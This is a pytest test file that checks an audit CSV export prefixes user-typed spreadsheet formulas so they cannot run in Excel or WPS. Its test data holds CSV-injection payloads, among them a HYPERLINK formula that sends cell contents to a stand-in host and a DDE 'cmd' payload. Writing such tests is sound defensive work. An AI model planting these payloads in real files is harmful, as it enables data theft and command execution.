"""The auditor's CSV export cannot carry a formula into Excel/WPS (issue 17, smaller holes)."""

import csv
import io

import pytest

from taizhang.audit.services import audit_record


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1,2)", "\t=1+1"])
def test_formulas_typed_by_users_are_neutralised(world, login, typed):
    audit_record(actor=world.county_office, action="problem.update", object_repr=typed, unit=world.unit("K1"))
    response = login("auditor").get("/audit/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [row[6] for row in rows[1:]]
    assert "'" + typed in cells and typed not in cells
